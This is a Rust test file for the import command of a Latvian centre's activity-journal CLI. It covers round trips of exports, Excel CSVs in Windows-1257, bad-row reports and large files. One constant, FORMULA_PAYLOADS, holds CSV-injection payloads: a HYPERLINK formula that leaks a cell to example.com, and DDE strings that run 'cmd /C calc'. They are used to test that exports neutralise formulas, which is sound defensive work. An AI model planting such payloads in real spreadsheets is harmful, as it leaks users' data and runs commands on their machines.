//! `field-client import`: round trips through our own exports, spreadsheets
//! saved by Excel (semicolons, Latvian headers, Windows-1257), bad rows,
//! `--skip-invalid`, `--dry-run`, and a large file.

use std::fmt::Write as _;
use std::path::Path;

use serde_json::{Value, json};
use tests::{Cli, LATVIAN_LETTERS};

/// The fields an import reproduces (the rest are set by the importing journal:
/// centre, who recorded it and when).
const CONTENT_FIELDS: [&str; 14] = [
    "id",
    "title",
    "kind",
    "date",
    "start",
    "hours",
    "place",
    "organisers",
    "institutions",
    "counts",
    "total_participants",
    "description",
    "notes",
    "deleted",
];

fn content(list: &[Value]) -> Vec<Value> {
    list.iter()
        .map(|a| {
            CONTENT_FIELDS
                .iter()
                .map(|f| ((*f).to_owned(), a[f].clone()))
                .collect::<serde_json::Map<_, _>>()
                .into()
        })
        .collect()
}

fn path(p: &Path) -> &str {
    p.to_str().expect("temporary paths are UTF-8")
}

/// A journal with a varied set of activities (and one deleted one).
fn source_journal() -> Cli {
    let cli = Cli::init("Avota KRC");
    let l = LATVIAN_LETTERS;
    cli.add([
        "--title",
        &format!("Pilns ieraksts {l}"),
        "--kind",
        "workshop",
        "--date",
        "2026-03-02",
        "--start",
        "14:30",
        "--hours",
        "1.25",
        "--place",
        &format!("Vieta {l}"),
        "--organiser",
        "Anna Bērziņa",
        "--organiser",
        "Jānis Ozoliņš",
        "--institution",
        "20.PII",
        "--count",
        "teachers=12",
        "--count",
        "ngo_representatives=2",
        "--count",
        "other=1",
        "--description",
        &format!("Divas rindas,\n\"pēdiņas\" un komats {l}"),
        "--notes",
        "Piezīmes; ar semikolu",
    ]);
    cli.add([
        "--title",
        "Tikai obligātie",
        "--kind",
        "seminar",
        "--date",
        "2025-11-30",
    ]);
    cli.add([
        "--title",
        "Vakara pasākums",
        "--kind",
        "pasākums",
        "--date",
        "2026-03-02",
        "--start",
        "18:00",
        "--hours",
        "3",
        "--count",
        "children_and_youth=40",
        "--count",
        "parents=25",
        "--count",
        "volunteers=5",
        "--count",
        "media=2",
        "--count",
        "municipal_staff=3",
    ]);
    let gone = cli.add([
        "--title",
        "Dzēstā",
        "--kind",
        "other",
        "--date",
        "2026-01-01",
    ]);
    cli.ok(["delete", &gone]);
    cli
}

#[test]
fn csv_and_json_exports_import_into_a_fresh_store_with_the_same_ids() {
    let source = source_journal();
    let expected = content(&source.list_json(&[]));
    assert_eq!(expected.len(), 3);
    for (format, lang) in [("csv", "en"), ("csv", "lv"), ("json", "en")] {
        let file = source.file(&format!("eksports-{lang}.{format}"));
        let mut export = source.command(["export", "--format", format, "--out", path(&file)]);
        // The file's language follows the system's, as on a Latvian computer.
        if lang == "lv" {
            export.env("LANG", "lv_LV.UTF-8");
        }
        let run = export.output().expect("export");
        assert!(run.status.success(), "{run:?}");
        if (format, lang) == ("csv", "lv") {
            let text = std::fs::read_to_string(&file).expect("read");
            assert!(
                text.starts_with("\u{feff}ID;Centrs;Nosaukums;Veids;Datums;"),
                "Latvian, with semicolons: {text}"
            );
            assert!(text.contains(";Darbnīca;"), "kinds by their names: {text}");
            assert!(text.contains(";1,25;"), "a decimal comma: {text}");
        }

        let target = Cli::init("Mērķa KRC");
        let stdout = target.ok(["import", path(&file)]);
        assert_eq!(
            stdout.trim(),
            "Imported 3 activities (0 already present).",
            "{format}"
        );
        let imported = target.list_json(&[]);
        assert_eq!(content(&imported), expected, "{format} {lang}");
        for a in &imported {
            assert_eq!(a["centre"], "Mērķa KRC");
            assert_eq!(a["recorded_by"], "Testa dators");
        }
        assert_eq!(target.status_json()["unsent"], 3, "{format}");
    }
}

#[test]
fn deleted_rows_in_an_export_are_not_imported() {
    let source = source_journal();
    for format in ["csv", "json"] {
        let file = source.file(&format!("ar-dzestajiem.{format}"));
        source.ok([
            "export",
            "--format",
            format,
            "--include-deleted",
            "--out",
            path(&file),
        ]);
        let target = Cli::init("Mērķis");
        let run = target.run(["import", path(&file)]);
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        assert!(
            run.stderr.contains("1 row marked deleted was not imported"),
            "{format}: {}",
            run.stderr
        );
        assert_eq!(target.list_json(&["--all"]).len(), 3, "{format}");
    }
}

#[test]
fn importing_the_same_file_twice_adds_nothing() {
    let source = source_journal();
    for format in ["csv", "json"] {
        let file = source.file(&format!("divreiz.{format}"));
        source.ok(["export", "--format", format, "--out", path(&file)]);
        let target = Cli::init("Mērķis");
        target.ok(["import", path(&file)]);
        let before = target.list_json(&["--all"]);
        let status = target.status_json();

        let stdout = target.ok(["import", path(&file)]);
        assert_eq!(
            stdout.trim(),
            "Imported 0 activities (3 already present).",
            "{format}"
        );
        assert_eq!(target.list_json(&["--all"]), before, "{format}");
        assert_eq!(target.status_json(), status, "{format}");

        // Into the journal it came from: also nothing new, nothing changed.
        let before = source.list_json(&["--all"]);
        let stdout = source.ok(["import", path(&file)]);
        assert!(
            stdout.contains("Imported 0 activities (3 already present)"),
            "{stdout}"
        );
        assert_eq!(source.list_json(&["--all"]), before, "{format}");
    }
}

#[test]
fn a_spreadsheet_without_ids_imports_once() {
    let cli = Cli::init("Talsu KRC");
    let file = cli.file("tabula.csv");
    std::fs::write(
        &file,
        "title,kind,date,start,hours,place,organisers,teachers,parents\n\
         Rīta seminārs,seminar,2026-02-01,09:00,2,Talsi,Līga; Ēriks,10,2\n\
         Rīta seminārs,seminar,2026-02-08,09:00,2,Talsi,Līga,8,0\n\
         Darbnīca vecākiem,workshop,2026-02-01,17:30,1.5,Sabile,,0,14\n",
    )
    .expect("write the spreadsheet");
    let stdout = cli.ok(["import", path(&file)]);
    assert_eq!(stdout.trim(), "Imported 3 activities (0 already present).");
    let list = cli.list_json(&[]);
    assert_eq!(list.len(), 3);
    let first = list
        .iter()
        .find(|a| a["date"] == "2026-02-01" && a["kind"] == "seminar")
        .expect("the first row");
    assert_eq!(first["title"], "Rīta seminārs");
    assert_eq!(first["start"], "09:00");
    assert_eq!(first["hours"], 2.0);
    assert_eq!(first["place"], "Talsi");
    assert_eq!(first["organisers"], json!(["Līga", "Ēriks"]));
    assert_eq!(first["counts"]["teachers"], 10);
    assert_eq!(first["counts"]["parents"], 2);
    assert_eq!(first["total_participants"], 12);

    let before = cli.list_json(&["--all"]);
    let stdout = cli.ok(["import", path(&file)]);
    assert_eq!(stdout.trim(), "Imported 0 activities (3 already present).");
    assert_eq!(cli.list_json(&["--all"]), before);

    // The same rows re-typed with other capitalisation and without diacritics
    // are still recognised as the same activities.
    let retyped = cli.file("tabula-2.csv");
    std::fs::write(
        &retyped,
        "title,kind,date,start,place\n\
         RITA SEMINARS,seminar,2026-02-08,09:00,TALSI\n",
    )
    .expect("write");
    let stdout = cli.ok(["import", path(&retyped)]);
    assert_eq!(stdout.trim(), "Imported 0 activities (1 already present).");
}

/// An activity table as a Latvian Excel saves it: semicolons, Latvian headers,
/// DD.MM.YYYY dates, decimal commas, Latvian kind names.
fn excel_csv() -> String {
    "Nosaukums;Veids;Datums;Sākums;Ilgums;Vieta;Organizatori;Iestādes;Pedagogi;Vecāki;Bērni un jaunieši;Kopā;Apraksts;Piezīmes\r\n\
     Skolotāja loma vietējās kopienas attīstībā;seminārs;14.05.2026;10:00;1,5;Ķekavas pamatskola;Ģirts Šķēle;20.PII;12;3;0;15;Ūdens, ķīmija un žurnālistika;Ņemt līdzi ĀČĒ\r\n\
     Darbnīca ģimenēm;Darbnīca;02.03.2026.;;2,25;Līvāni;\"Žanna Čakste; Ļena Ņikitina\";;0;8;11;19;;\r\n\
     Pasākums;pasākums;31.12.2025;18.30;;Rīga;;;;;;;Īss;\r\n"
        .to_owned()
}

fn check_excel_import(cli: &Cli, source: &str) {
    let list = cli.list_json(&[]);
    assert_eq!(list.len(), 3, "{source}: {list:#?}");
    let a = &list[0];
    assert_eq!(
        a["title"], "Skolotāja loma vietējās kopienas attīstībā",
        "{source}"
    );
    assert_eq!(a["kind"], "seminar", "{source}");
    assert_eq!(a["date"], "2026-05-14", "{source}");
    assert_eq!(a["start"], "10:00", "{source}");
    assert_eq!(a["hours"], 1.5, "{source}");
    assert_eq!(a["place"], "Ķekavas pamatskola", "{source}");
    assert_eq!(a["organisers"], json!(["Ģirts Šķēle"]), "{source}");
    assert_eq!(a["institutions"], json!(["20.PII"]), "{source}");
    assert_eq!(a["counts"]["teachers"], 12, "{source}");
    assert_eq!(a["counts"]["parents"], 3, "{source}");
    assert_eq!(a["total_participants"], 15, "{source}");
    assert_eq!(
        a["description"], "Ūdens, ķīmija un žurnālistika",
        "{source}"
    );
    assert_eq!(a["notes"], "Ņemt līdzi ĀČĒ", "{source}");
    let b = &list[1];
    assert_eq!(b["title"], "Darbnīca ģimenēm", "{source}");
    assert_eq!(b["kind"], "workshop", "{source}");
    assert_eq!(b["date"], "2026-03-02", "{source}");
    assert_eq!(b["start"], Value::Null, "{source}");
    assert_eq!(b["hours"], 2.25, "{source}");
    assert_eq!(b["place"], "Līvāni", "{source}");
    assert_eq!(
        b["organisers"],
        json!(["Žanna Čakste", "Ļena Ņikitina"]),
        "{source}"
    );
    assert_eq!(b["counts"]["children_and_youth"], 11, "{source}");
    assert_eq!(b["total_participants"], 19, "{source}");
    let c = &list[2];
    assert_eq!(c["kind"], "event", "{source}");
    assert_eq!(c["date"], "2025-12-31", "{source}");
    assert_eq!(c["start"], "18:30", "{source}");
    assert_eq!(c["description"], "Īss", "{source}");
}

#[test]
fn an_excel_csv_with_semicolons_and_latvian_headers_imports() {
    let text = excel_csv();
    // Excel's "CSV UTF-8" adds a byte-order mark.
    let cli = Cli::init("Ķekavas KRC");
    let file = cli.file("excel-utf8.csv");
    let mut bytes = vec![0xEF, 0xBB, 0xBF];
    bytes.extend_from_slice(text.as_bytes());
    std::fs::write(&file, bytes).expect("write");
    let run = cli.run(["import", path(&file)]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stdout.trim(),
        "Imported 3 activities (0 already present)."
    );
    assert!(!run.stderr.contains("not known"), "{}", run.stderr);
    check_excel_import(&cli, "UTF-8 with BOM");
    assert_eq!(
        cli.ok(["import", path(&file)]).trim(),
        "Imported 0 activities (3 already present)."
    );

    // Plain "CSV" on a Latvian Windows: Windows-1257, no BOM.
    let (encoded, _, unmappable) = encoding_rs::WINDOWS_1257.encode(&text);
    assert!(!unmappable, "every Latvian letter exists in Windows-1257");
    assert!(
        std::str::from_utf8(&encoded).is_err(),
        "the file must not be UTF-8"
    );
    let cli = Cli::init("Ķekavas KRC");
    let file = cli.file("excel-1257.csv");
    std::fs::write(&file, &encoded).expect("write");
    let stdout = cli.ok(["import", path(&file)]);
    assert_eq!(stdout.trim(), "Imported 3 activities (0 already present).");
    check_excel_import(&cli, "Windows-1257");

    // And every Latvian letter, small and capital, survives the code page.
    let cli = Cli::init("Burti");
    let file = cli.file("burti.csv");
    let line = format!(
        "Nosaukums;Veids;Datums;Vieta;Apraksts\r\n{0};cits;01.01.2026;{0};{0}\r\n",
        LATVIAN_LETTERS
    );
    std::fs::write(&file, encoding_rs::WINDOWS_1257.encode(&line).0).expect("write");
    cli.ok(["import", path(&file)]);
    let a = &cli.list_json(&[])[0];
    assert_eq!(a["title"], LATVIAN_LETTERS);
    assert_eq!(a["place"], LATVIAN_LETTERS);
    assert_eq!(a["description"], LATVIAN_LETTERS);
}

/// Good rows start at lines 2 and 6 (the latter has a quoted cell spanning
/// lines 6 and 7); bad ones at lines 3, 4, 5 and 8.
const MIXED_CSV: &str = "title,kind,date,hours,teachers,parents,total,description\n\
Labā rinda,seminar,2026-01-10,2,3,4,7,\n\
Slikts datums,seminar,2026-02-30,,,,,\n\
Slikts veids,ballīte,2026-01-11,,-4,,,\n\
,workshop,2026-01-12,abc,,,,\n\
Otrā labā,meeting,2026-01-13,,1,1,,\"divas\n\
rindas\"\n\
Nepareiza summa,seminar,2026-01-14,,5,5,11,\n";

/// The same file's problems on a Latvian system: every line of the
/// report in Latvian, the fields by the app's labels.
#[test]
fn bad_rows_are_reported_in_latvian_on_a_latvian_system() {
    let cli = Cli::init("Dobeles KRC");
    let file = cli.file("jaukts.csv");
    std::fs::write(&file, MIXED_CSV).expect("write");
    let run = cli
        .command(["import", path(&file)])
        .env("LANG", "lv_LV.UTF-8")
        .output()
        .expect("import");
    assert_eq!(run.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&run.stderr);
    let shown = path(&file);
    for expected in [
        format!("{shown}: 3. rinda: Datums: Ierakstiet datumu"),
        format!("{shown}: 4. rinda: Veids: Tāda veida nav; der: seminar, workshop"),
        "Pedagogi: Skaits nevar būt negatīvs.".to_owned(),
        format!("{shown}: 5. rinda: Nosaukums: Šis lauks nedrīkst būt tukšs."),
        "Ilgums stundās: Ierakstiet stundu skaitu".to_owned(),
        format!("{shown}: 8. rinda: kopā: 11 nav vienāds ar grupu summu (10)"),
        "kļūda: nekas netika importēts: 4 rindās ir kļūdas".to_owned(),
    ] {
        assert!(stderr.contains(&expected), "lacks {expected:?}:\n{stderr}");
    }
    assert!(cli.list_json(&[]).is_empty(), "nothing was imported");
}

#[test]
fn bad_rows_are_reported_by_line_and_field_and_nothing_is_imported() {
    let cli = Cli::init("Dobeles KRC");
    let file = cli.file("jaukts.csv");
    std::fs::write(&file, MIXED_CSV).expect("write");

    let stderr = cli.fails(["import", path(&file)]);
    let shown = path(&file);
    for expected in [
        format!("{shown}: line 3: date: \"2026-02-30\" is not a date"),
        format!("{shown}: line 4: kind: \"ballīte\" is not a known kind"),
        "count teachers: must not be negative, not -4".to_owned(),
        format!("{shown}: line 5: title: must not be empty"),
        "hours: \"abc\" is not a number of hours".to_owned(),
        format!("{shown}: line 8: total: 11 does not equal the sum of the groups (10)"),
        "nothing was imported: 4 rows have problems".to_owned(),
        "--skip-invalid".to_owned(),
    ] {
        assert!(stderr.contains(&expected), "lacks {expected:?}:\n{stderr}");
    }
    for good_line in ["line 2:", "line 6:"] {
        assert!(
            !stderr.contains(good_line),
            "{good_line} is good:\n{stderr}"
        );
    }
    assert!(cli.list_json(&["--all"]).is_empty());
    assert_eq!(cli.status_json()["unsent"], 0);

    // --dry-run checks and saves nothing, even with --skip-invalid.
    let run = cli.run(["import", "--dry-run", "--skip-invalid", path(&file)]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(
        run.stderr
            .contains("Checked: 2 rows can be imported. Nothing was saved"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("line 3: date"), "{}", run.stderr);
    assert!(cli.list_json(&["--all"]).is_empty());

    // --skip-invalid imports the good rows, and lists the bad ones.
    let run = cli.run(["import", "--skip-invalid", path(&file)]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stdout.trim(),
        "Imported 2 activities (0 already present, 4 bad rows skipped)."
    );
    assert!(run.stderr.contains("line 4: kind"), "{}", run.stderr);
    let list = cli.list_json(&[]);
    let titles: Vec<&Value> = list.iter().map(|a| &a["title"]).collect();
    assert_eq!(titles, [&json!("Otrā labā"), &json!("Labā rinda")]);
    assert_eq!(list[0]["description"], "divas\nrindas");
    assert_eq!(list[1]["total_participants"], 7);
}

/// Rows go to the store as they are read, a change of 100 at a time, in
/// one transaction: a bad row after hundreds of good ones still leaves
/// nothing stored, and the same file with `--skip-invalid` stores them all.
#[test]
fn a_bad_row_late_in_a_long_file_stores_nothing() {
    let cli = Cli::init("Jēkabpils KRC");
    let file = cli.file("garš.csv");
    let mut csv = String::from("title,kind,date,teachers\n");
    for i in 0..250 {
        csv.push_str(&format!(
            "Nodarbība {i},workshop,2026-03-{:02},{i}\n",
            1 + i % 28
        ));
    }
    csv.push_str("Bez veida,,2026-03-01,1\n");
    std::fs::write(&file, csv).expect("write");

    let stderr = cli.fails(["import", path(&file)]);
    assert!(stderr.contains("line 252: kind"), "{stderr}");
    assert!(stderr.contains("nothing was imported"), "{stderr}");
    assert!(cli.list_json(&["--all"]).is_empty());
    assert_eq!(cli.status_json()["unsent"], 0);

    let run = cli.run(["import", "--skip-invalid", path(&file)]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stdout.trim(),
        "Imported 250 activities (0 already present, 1 bad row skipped)."
    );
    assert_eq!(cli.list_json(&[]).len(), 250);
    assert_eq!(cli.status_json()["unsent"], 250);
}

#[test]
fn dry_run_of_a_good_file_saves_nothing() {
    let source = source_journal();
    let file = source.file("sausais.json");
    source.ok(["export", "--format", "json", "--out", path(&file)]);
    let target = Cli::init("Mērķis");
    let run = target.run(["import", "--dry-run", path(&file)]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    assert!(
        run.stderr.contains("Checked: 3 rows can be imported"),
        "{}",
        run.stderr
    );
    assert!(target.list_json(&["--all"]).is_empty());
    assert_eq!(target.status_json()["unsent"], 0);
}

#[test]
fn bad_json_records_and_broken_files_are_reported() {
    let cli = Cli::init("Alūksnes KRC");
    let file = cli.file("slikts.json");
    std::fs::write(
        &file,
        r#"[
          {"title": "Labs", "kind": "seminar", "date": "2026-01-01"},
          {"title": "Slikts", "kind": "seminar", "date": "rīt", "counts": {"teachers": -1}},
          {"title": "Nezināma grupa", "kind": "seminar", "date": "2026-01-02", "counts": {"kaķi": 2}},
          "nav objekts",
          {"id": "nav-id", "title": "Slikts id", "kind": "seminar", "date": "2026-01-03"},
          {"title": "Summa", "kind": "seminar", "date": "2026-01-04", "counts": {"media": 2}, "total_participants": 3}
        ]"#,
    )
    .expect("write");
    let stderr = cli.fails(["import", path(&file)]);
    for expected in [
        "record 2: date: \"rīt\" is not a date",
        "count teachers: must not be negative",
        "record 3: count kaķi: is not a participant group",
        "record 4: title: is required",
        "record 5: id: \"nav-id\" is not an activity id",
        "record 6: total: 3 does not equal the sum of the groups (2)",
    ] {
        assert!(stderr.contains(expected), "lacks {expected:?}:\n{stderr}");
    }
    assert!(!stderr.contains("record 1:"), "{stderr}");
    assert!(cli.list_json(&["--all"]).is_empty());

    let cases: [(&str, &str, &str); 5] = [
        ("nav-json.json", "{\"title\": ", "the JSON cannot be read"),
        (
            "objekts.json",
            "{\"title\": \"A\"}",
            "must be an array of activities",
        ),
        (
            "bez-kolonnām.csv",
            "title,place\nA,B\n",
            "lacks the column(s): kind, date",
        ),
        ("tukss.csv", "", "no header row"),
        ("nav.csv", "", "cannot read"),
    ];
    for (name, text, expected) in cases {
        let file = cli.file(name);
        if name != "nav.csv" {
            std::fs::write(&file, text).expect("write");
        }
        let stderr = cli.fails(["import", path(&file)]);
        assert!(stderr.contains("nothing was imported"), "{name}: {stderr}");
        assert!(
            stderr.contains(expected),
            "{name}: lacks {expected:?}:\n{stderr}"
        );
    }
    assert!(cli.list_json(&["--all"]).is_empty());
}

#[test]
fn repeated_rows_in_one_file_are_reported() {
    let cli = Cli::init("Madonas KRC");
    let file = cli.file("atkartoti.csv");
    std::fs::write(
        &file,
        "title,kind,date,place\n\
         Tas pats,seminar,2026-01-01,Madona\n\
         Cits,seminar,2026-01-01,Madona\n\
         TAS PATS,seminar,2026-01-01,Madona\n",
    )
    .expect("write");
    let stderr = cli.fails(["import", path(&file)]);
    assert!(
        stderr.contains("line 4: the same date, start, kind, title and place as line 2"),
        "{stderr}"
    );
    assert!(cli.list_json(&["--all"]).is_empty());
}

#[test]
fn ten_thousand_rows_import_completely() {
    const ROWS: usize = 10_000;
    let cli = Cli::init("Lielais KRC");
    let mut text = String::from("title,kind,date,start,hours,place,teachers,parents,total\n");
    for i in 0..ROWS {
        writeln!(
            text,
            "Nodarbība nr. {i} ķēde,{},2026-{:02}-{:02},{:02}:{:02},{},Ēdoles pils,{},{},{}",
            ["seminar", "workshop", "meeting", "event"][i % 4],
            1 + i % 12,
            1 + i % 28,
            8 + i % 12,
            i % 60,
            1 + i % 5,
            i % 30,
            i % 7,
            i % 30 + i % 7,
        )
        .expect("write to a String");
    }
    let file = cli.file("liels.csv");
    std::fs::write(&file, &text).expect("write");
    let stdout = cli.ok(["import", path(&file)]);
    assert_eq!(
        stdout.trim(),
        format!("Imported {ROWS} activities (0 already present).")
    );
    let status = cli.status_json();
    assert_eq!(status["activities"], ROWS);
    assert_eq!(status["deleted"], 0);
    assert_eq!(status["unsent"], ROWS);

    // Spot-check content through the export.
    let exported = cli.ok(["export", "--format", "json"]);
    let list: Vec<Value> = serde_json::from_str(&exported).expect("JSON");
    assert_eq!(list.len(), ROWS);
    let one = list
        .iter()
        .find(|a| a["title"] == "Nodarbība nr. 9999 ķēde")
        .expect("the last row");
    assert_eq!(one["kind"], "event");
    assert_eq!(one["date"], "2026-04-04");
    assert_eq!(one["start"], "11:39");
    assert_eq!(one["hours"], 5.0);
    assert_eq!(one["counts"]["teachers"], 9);
    assert_eq!(one["counts"]["parents"], 3);
    let total: u64 = list
        .iter()
        .map(|a| a["total_participants"].as_u64().expect("a number"))
        .sum();
    let expected: u64 = (0..ROWS as u64).map(|i| i % 30 + i % 7).sum();
    assert_eq!(total, expected);
}

/// The classic CSV-injection payloads, in fields a volunteer types.
const FORMULA_PAYLOADS: [&str; 5] = [
    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Klikšķini\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
];

/// Cells of a CSV file (after its byte-order mark), row by row.
fn csv_cells(file: &Path) -> Vec<Vec<String>> {
    let text = std::fs::read_to_string(file).expect("the CSV reads");
    let text = text.trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(if text.lines().next().is_some_and(|l| l.contains(';')) {
            b';'
        } else {
            b','
        })
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("a record").iter().map(str::to_owned).collect())
        .collect()
}

/// A cell a spreadsheet would run as a formula.
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn formulas_typed_into_fields_are_exported_as_text_and_import_unchanged() {
    let source = Cli::init("=HYPERLINK(\"http://example.com\",\"KRC\")");
    for payload in FORMULA_PAYLOADS {
        source.add([
            format!("--title={payload}"),
            "--kind=seminar".into(),
            "--date=2026-03-02".into(),
            format!("--place={payload}"),
            format!("--description=\t{payload}"),
        ]);
    }
    let file = source.file("eksports.csv");
    source.ok(["export", "--format", "csv", "--out", path(&file)]);
    let cells = csv_cells(&file);
    assert_eq!(cells.len(), 1 + FORMULA_PAYLOADS.len());
    for cell in cells.iter().flatten() {
        assert!(!runs_as_formula(cell), "a spreadsheet would run {cell:?}");
    }
    let report = source.file("atskaite.csv");
    source.ok([
        "report",
        "--from",
        "2026-01-01",
        "--to",
        "2026-12-31",
        "--format",
        "csv",
        "--out",
        path(&report),
    ]);
    let report_cells = csv_cells(&report);
    assert!(
        report_cells
            .iter()
            .flatten()
            .any(|c| c.contains("HYPERLINK"))
    );
    for cell in report_cells.iter().flatten() {
        assert!(!runs_as_formula(cell), "a spreadsheet would run {cell:?}");
    }

    let target = Cli::init("Mērķa KRC");
    target.ok(["import", path(&file)]);
    let by_id = |list: &[Value]| {
        let mut list = content(list);
        list.sort_by(|a, b| a["id"].as_str().cmp(&b["id"].as_str()));
        list
    };
    let expected = by_id(&source.list_json(&[]));
    assert_eq!(by_id(&target.list_json(&[])), expected);
    let titles: Vec<&str> = expected
        .iter()
        .filter_map(|a| a["title"].as_str())
        .collect();
    for payload in FORMULA_PAYLOADS {
        assert!(titles.contains(&payload), "{payload:?} in {titles:?}");
    }
}

/// Line numbers name the file's lines as an editor shows them (the header is
/// line 1), also in a file with Windows line ends, as Excel saves it, and
/// after a cell that spans lines. Latvian plural kind names are taken.
#[test]
fn problems_are_told_at_the_files_own_line_numbers() {
    let cli = Cli::init("Rindu KRC");
    let file = cli.file("excel.csv");
    std::fs::write(
        &file,
        "\u{feff}Nosaukums;Veids;Datums\r\n\
         Pirmais;semināri;2026-01-01\r\n\
         \"Divās\r\nrindās\";darbnīcas;2026-01-02\r\n\
         Trešais;ballīte;2026-01-03\r\n\
         Ceturtais;apmācības;2026-01-04\r\n",
    )
    .expect("write");
    let stderr = cli.fails(["import", path(&file)]);
    assert!(stderr.contains("line 5: kind"), "{stderr}");
    assert_eq!(stderr.matches("line ").count(), 1, "{stderr}");
    let run = cli.run(["import", "--skip-invalid", path(&file)]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let kinds: Vec<String> = cli
        .list_json(&[])
        .iter()
        .map(|a| a["kind"].as_str().expect("kind").to_owned())
        .collect();
    assert_eq!(kinds.len(), 3, "{kinds:?}");
    for kind in ["seminar", "workshop", "training"] {
        assert!(kinds.iter().any(|k| k == kind), "{kind} in {kinds:?}");
    }
}

/// A row whose id is already here with other content is named, not
/// silently skipped; `--update` applies what differs, as an edit.
#[test]
fn a_row_changed_since_is_named_and_updates_on_request() {
    let source = source_journal();
    let file = source.file("eksports.json");
    source.ok(["export", "--format", "json", "--out", path(&file)]);
    let target = Cli::init("Mērķa KRC");
    target.ok(["import", path(&file)]);
    let first = target.list_json(&[]).remove(0);
    let id = first["id"].as_str().expect("id").to_owned();
    target.ok(["edit", &id, "--title", "Labots šeit"]);

    let run = target.run(["import", path(&file)]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(
        run.stdout
            .contains("Imported 0 activities (3 already present)"),
        "{}",
        run.stdout
    );
    assert!(run.stderr.contains("different content"), "{}", run.stderr);
    assert!(run.stderr.contains(&id), "{}", run.stderr);
    assert!(run.stderr.contains("--update"), "{}", run.stderr);
    let kept = target.list_json(&[]);
    let kept = kept.iter().find(|a| a["id"] == id.as_str()).expect("kept");
    assert_eq!(kept["title"], "Labots šeit", "left as it is");

    let run = target.run(["import", "--update", path(&file)]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(
        run.stderr.contains("Updated 1 activity from the file"),
        "{}",
        run.stderr
    );
    assert_eq!(
        content(&target.list_json(&[])),
        content(&source.list_json(&[]))
    );
    // Nothing differs any more: a third import says nothing of it.
    let run = target.run(["import", path(&file)]);
    assert!(!run.stderr.contains("different content"), "{}", run.stderr);
}
